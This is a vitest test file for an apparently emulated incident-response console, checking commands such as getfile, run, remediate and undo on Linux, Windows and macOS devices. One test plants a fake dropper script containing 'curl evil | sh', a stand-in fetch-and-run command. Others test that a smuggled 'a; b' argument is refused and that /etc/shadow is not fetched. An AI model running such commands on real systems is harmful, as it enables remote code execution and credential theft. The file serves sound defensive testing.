import { createHash } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addIndicator } from '../../lib/procedures/console/add-indicator.ts';
import { isAnswerFile } from '../../lib/procedures/console/next-line.ts';
import { runCommand } from '../../lib/procedures/console/run-command.ts';
import { importFile } from '../../lib/procedures/import/import-file.ts';
import { getConsole } from '../../lib/queries/get-console.ts';
import { asked } from '../support/console-house.ts';
import { type OpenConsoles, openConsoles, type System } from '../support/open-consoles.ts';

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const hosts = '127.0.0.1 localhost\n';
let house: OpenConsoles;

beforeAll(async () => {
  house = await openConsoles();
});

afterAll(() => house?.close());

describe('the twenty basic commands', () => {
  it('cd', async () => {
    expect(await lines('linux', 'cd /etc')).toEqual(['/etc>', 'Whether it exists, dir says.']);
    expect(await house.itemsPrinted('linux', 'dir ssh')).toContainEqual(
      expect.objectContaining({ path: '/etc/ssh/sshd_config' }),
    );
    await house.refused('linux', 'cd ~', /no home folder/);
  });

  it('cls', async () => {
    expect((await house.done('linux', 'cls')).answer).toEqual({ kind: 'cleared' });
    await house.refused('linux', 'cls all', /takes no/);
  });

  it('connect', async () => {
    expect(await lines('linux', 'connect')).toEqual(['Session established on jump-linux-01.']);
    await expect(house.connect('jump-linux-01')).rejects.toMatchObject({
      code: 'conflict',
      message: expect.stringContaining('one at a time'),
    });
  });

  it('connections', async () => {
    const [first] = await house.itemsPrinted('windows', 'connections');
    expect(first).toMatchObject({ proto: 'tcp', localPort: expect.any(Number), pid: expect.any(Number) });
    await house.refused('linux', 'connections', /does not exist on Linux/);
    const policy = { ...house.context.policy, consoleExtensions: true };
    const input = { sessionId: house.consoles.linux, line: 'connections', requestKey: crypto.randomUUID() };
    const { id } = await runCommand.run({ ...house.context, policy }, house.person('responder'), input);
    expect(await house.settle(id)).toMatchObject({ state: 'done', answer: { kind: 'counted' } });
  });

  it('dir', async () => {
    expect(await house.itemsPrinted('linux', 'dir /etc')).toContainEqual(
      expect.objectContaining({ path: '/etc/hosts', type: 'file', size: hosts.length }),
    );
    await house.refused('linux', 'dir C:\\Windows', /no drive letters/);
  });

  it('drivers', async () => {
    expect(await house.itemsPrinted('windows', 'drivers')).toContainEqual(
      expect.objectContaining({ path: expect.stringMatching(/\.sys$/i) }),
    );
    await house.refused('macos', 'drivers', /does not exist on macOS/);
  });

  it('fg', async () => {
    expect(await lines('linux', 'fg 1')).toEqual([expect.stringContaining('cd /etc')]);
    await house.refused('linux', 'fg 999', /no command 999/);
  });

  it('fileinfo', async () => {
    const [info] = await house.itemsPrinted('macos', 'fileinfo /etc/hosts');
    expect(info).toMatchObject({ path: '/etc/hosts', sha256: sha256(hosts), size: hosts.length });
    await house.refused('macos', 'fileinfo', /needs a path/);
  });

  it('findfile', async () => {
    expect(await house.itemsPrinted('linux', 'findfile sshd_* /etc')).toContainEqual(
      expect.objectContaining({ path: '/etc/ssh/sshd_config' }),
    );
    await house.refused('linux', 'findfile ssh/x', /takes a file’s name/);
  });

  it('getfile', async () => {
    await house.refused('linux', 'getfile /etc/hosts', /needs fileinfo of the same thing first/);
    const command = await house.done('linux', 'getfile /etc/hosts -auto');
    const [item] = await house.itemsOf(command);
    expect(item?.acquisition.steps['seal-evidence'].state).toBe('done');
    expect(item?.source.output).toMatchObject({ kind: 'device-file', path: '/etc/hosts' });
    expect(command.answer).toMatchObject({
      kind: 'file',
      verdict: 'agrees',
      device: { sha256: sha256(hosts) },
      received: { contentSha256: sha256(hosts), sha256: expect.not.stringMatching(sha256(hosts)) },
    });
    expect(command.words).toBe('What arrived has the digest that the device printed.');
  });

  it('help', async () => {
    expect((await lines('linux', 'help getfile')).join('\n')).toContain('getfile <path> -auto');
    await house.refused('linux', 'help nonsense', /no such command/);
  });

  it('jobs', async () => {
    expect(await lines('linux', 'jobs')).toEqual(['No jobs.']);
    await house.refused('linux', 'jobs 3', /takes no/);
  });

  it('persistence', async () => {
    expect(await house.itemsPrinted('windows', 'persistence')).toContainEqual(
      expect.objectContaining({ kind: 'runKey', location: expect.stringContaining('\\Run') }),
    );
    await house.refused('macos', 'persistence', /does not exist on macOS/);
  });

  it('processes', async () => {
    expect(await house.itemsPrinted('linux', 'processes')).toContainEqual(
      expect.objectContaining({ pid: 1, cmdline: '/sbin/init' }),
    );
    await house.refused('linux', 'processes init', /whole number/);
  });

  it('registry', async () => {
    const key = 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run';
    const items = await house.itemsPrinted('windows', `registry ${key}`);
    expect(items[0]).toMatchObject({ key: key.replace('HKLM', 'HKEY_LOCAL_MACHINE') });
    await house.refused('linux', `registry ${key}`, /does not exist on Linux/);
  });

  it('scheduledtasks', async () => {
    expect(await house.itemsPrinted('windows', 'scheduledtask')).toContainEqual(
      expect.objectContaining({ path: expect.stringMatching(/^\\/), actions: [expect.any(String)] }),
    );
    await house.refused('linux', 'scheduledtasks', /does not exist on Linux/);
  });

  it('services', async () => {
    expect(await house.itemsPrinted('windows', 'services -output json')).toContainEqual(
      expect.objectContaining({ startMode: 'Auto' }),
    );
    await house.refused('macos', 'services', /does not exist on macOS/);
  });

  it('startupfolders', async () => {
    expect(await house.itemsPrinted('windows', 'startupfolders')).toContainEqual(
      expect.objectContaining({ name: expect.stringContaining('collaboration') }),
    );
    await house.refused('linux', 'startupfolders', /does not exist on Linux/);
  });

  it('status', async () => {
    expect(await lines('linux', 'status 1')).toEqual([expect.stringMatching(/^1 {2}done {2}cd \/etc/)]);
    await house.refused('linux', 'status 999', /no command 999/);
  });

  it('trace', async () => {
    expect(await lines('linux', 'trace')).toEqual([expect.stringContaining('Secrets are never part')]);
    expect(await house.context.register.look.deviceSession(house.consoles.linux)).toMatchObject({
      trace: true,
    });
    await house.refused('linux', 'trace on', /takes no/);
  });
});

describe('the ten advanced commands', () => {
  it('analyze', async () => {
    const command = await house.done('windows', 'analyze file C:\\Windows\\Temp\\setup.log -auto');
    expect(command.answer).toMatchObject({ kind: 'reputation', sha256: sha256('setup finished\r\n') });
    expect(command.notes).toContainEqual(expect.stringContaining('Deep analysis has no public interface'));
    expect(command.words).toMatch(/^Reputation lookup/);
    await house.refused('linux', 'analyze file /etc/hosts', /does not exist on Linux.*fileinfo/);
  });

  it('collect', async () => {
    const [item] = await house.itemsOf(await house.done('linux', 'collect'));
    expect(item?.source.output).toEqual({ kind: 'package' });
    expect(item?.acquisition.steps['seal-evidence'].state).toBe('done');
    await house.refused('windows', 'collect', /from the device’s page/);
  });

  it('isolate', async () => {
    await house.done('macos', 'isolate');
    await house.refused('windows', 'isolate', /response action on the device’s page/);
  });

  it('release', async () => {
    await house.done('macos', 'release');
    await house.refused('linux', 'release', /response action on the device’s page/);
  });

  it('run', async () => {
    const given = Buffer.from(JSON.stringify({ acq: 'by-hand', cwd: '/', path: '/etc' })).toString('base64');
    const command = await house.done('linux', `run hf-dir.sh -parameters "${given}"`);
    expect((await house.printed(command))?.result.output).toContain('/etc/hosts');
    await house.refused('linux', 'run other.sh', /not in the tenant’s library/);
    await house.refused('linux', 'run hf-dir.sh -parameters "a; b"', /forbids/);
    await house.refused('linux', 'run hf-dir.sh -parameters "-path /etc"', /takes one argument/);
  });

  it('library', async () => {
    const { answer } = await house.done('linux', 'library');
    const files = answer?.kind === 'library' ? answer.files : [];
    expect(files).toContainEqual(expect.objectContaining({ fileName: 'hf-dir.sh', pinned: 'as-pinned' }));
    await house.refused('linux', 'library delete hf-dir.sh', /the right to put files there/);
  });

  it('putfile', async () => {
    const command = await house.done('linux', 'putfile hf-dir.sh -keep');
    expect(await house.itemsOf(command)).toEqual([]); // Defender keeps no result of it
    expect(command.notes).toContainEqual(expect.stringContaining('neither -overwrite nor -keep'));
    await house.refused('linux', 'putfile ../x', /letters, digits/);
  });

  it('remediate', async () => {
    await house.refused('windows', 'remediate file C:\\Windows\\Temp\\setup.log', /needs getfile/);
    const line = 'remediate file C:\\Windows\\Temp\\setup.log -auto';
    const [item] = await house.itemsPrinted('windows', line);
    expect(item).toMatchObject({ moved: true, sha256: sha256('setup finished\r\n') });
    const gone = await house.run(house.consoles.windows, 'fileinfo C:\\Windows\\Temp\\setup.log');
    expect(gone).toMatchObject({ state: 'failed', words: expect.stringContaining('its output says why') });
    expect(await lines('windows', 'remediate list')).toEqual([expect.stringContaining('setup.log')]);
  });

  it('scan', async () => {
    await house.done('linux', 'scan');
    await house.refused('windows', 'scan', /response action on the device’s page/);
  });

  it('undo', async () => {
    const [item] = await house.itemsPrinted('windows', 'undo file C:\\Windows\\Temp\\setup.log');
    expect(item).toMatchObject({ restored: true });
    await house.refused('linux', 'undo registry HKLM\\Run', /does not exist on Linux/);
  });

  it('undo, of a file that the product moved, on every system', async () => {
    const root = join(house.cloud.home, 'cloud/devices/jump-linux-01/root');
    await house.done('linux', 'dir /'); // the device's tree is there from its first use on
    await writeFile(join(root, 'tmp/dropper.sh'), 'curl evil | sh\n');
    await house.done('linux', 'remediate file /tmp/dropper.sh -auto');
    await expect(readFile(join(root, 'tmp/dropper.sh'))).rejects.toThrow('ENOENT');
    const [item] = await house.itemsPrinted('linux', 'undo file /tmp/dropper.sh');
    expect(item).toMatchObject({ restored: true, sha256: sha256('curl evil | sh\n') });
    expect(await readFile(join(root, 'tmp/dropper.sh'), 'utf8')).toBe('curl evil | sh\n');
    const none = await house.run(house.consoles.linux, 'undo file /etc/hosts');
    expect(none).toMatchObject({ state: 'failed' }); // Holdfast never moved it
  });
});

describe('a console', () => {
  const responder = () => house.person('responder');

  it('adds the hash of a taken file to the indicators, on record', async () => {
    const taken = (await house.context.register.look.sessionCommands(house.consoles.linux)).find(
      ({ answer }) => answer?.kind === 'file',
    );
    const commandId = taken?.id ?? '';
    const { indicatorId } = await addIndicator.run(house.context, responder(), {
      commandId,
      action: 'Alert',
    });
    const rows = await house.database.db.custodyEvent.findMany({ where: { type: 'device.indicator-added' } });
    const [detail] = rows.map(({ body }) => JSON.parse(Buffer.from(body ?? []).toString()).detail);
    expect(detail).toMatchObject({ indicatorId, sha256: sha256(hosts), action: 'Alert' });
  });

  it('shows as what a line gave what its action gave, and nothing that a form named so', async () => {
    const { id, actionId } = await house.done('linux', 'dir /etc');
    const [incidentId, deviceId] = await house.at('jump-linux-01');
    await importFile.run(house.context, responder(), {
      ...{ incidentId, deviceId, role: 'transcript', fileName: 'other.txt', sizeBytes: 1, ...asked },
      ...{ ranAt: '2026-01-01T00:00:00Z', ranBy: 'Somebody', whyByHand: 'It was run elsewhere.' },
      requestKey: actionId ?? '',
    });
    const { shown } = await getConsole({ actor: responder(), db: house.database.db }, incidentId, deviceId);
    const line = shown?.commands.find((one) => one.id === id);
    expect(line?.items).toEqual([expect.objectContaining({ kind: 'command-output' })]);
  });

  it('fetches no file but the one that the script makes for its run, whatever the device names', () => {
    expect(isAnswerFile('/var/tmp/hf-run-1.json', 'run-1')).toBe(true);
    expect(isAnswerFile('C:\\Windows\\Temp\\hf-run-1.json', 'run-1')).toBe(true);
    expect(isAnswerFile('/etc/shadow', 'run-1')).toBe(false);
    expect(isAnswerFile('/var/tmp/hf-run-2.json', 'run-1')).toBe(false);
  });
});

async function lines(on: System, line: string): Promise<readonly string[]> {
  const { answer, actionId } = await house.done(on, line);
  expect(actionId).toBeNull();
  return answer?.kind === 'lines' ? answer.lines : [];
}
